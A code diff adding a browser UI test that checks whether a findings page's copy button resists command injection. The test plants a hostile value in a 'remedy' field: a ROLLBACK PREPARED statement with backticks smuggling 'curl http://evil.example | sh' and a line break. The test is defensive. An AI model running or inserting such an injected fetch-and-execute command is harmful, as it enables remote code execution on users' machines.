@@ -211,6 +211,18 @@ def test_half_of_the_world_away(open_recorded, recorded):
     expect(page.get_by_role("alert")).to_have_count(0)
 
 
+def test_what_is_copied_is_the_whole_statement(open_recorded, recorded):
+    """A name in a statement cannot make another command of it, nor bring a line break that would run it."""
+    told = recorded.answers["writers"]({})
+    hostile = "ROLLBACK PREPARED 'nightly`curl http://evil.example | sh\n`job'"
+    told["data"]["writers"][0] = told["data"]["writers"][0] | {"remedy": hostile}
+    recorded.answers["writers"] = lambda _: told
+    page = open_recorded("findings")
+    label = "Copy: ROLLBACK PREPARED 'nightly`curl http://evil.example | sh `job'"
+    expect(page.get_by_role("button", name=label, exact=True)).to_be_visible()
+    expect(page.get_by_role("button", name=re.compile("^Copy: curl"))).to_have_count(0)
+
+
 def test_leaders_are_told_in_words_too(open_recorded):
     """The timeline's list names who led, in which term, and why it ended."""
     page = open_recorded()
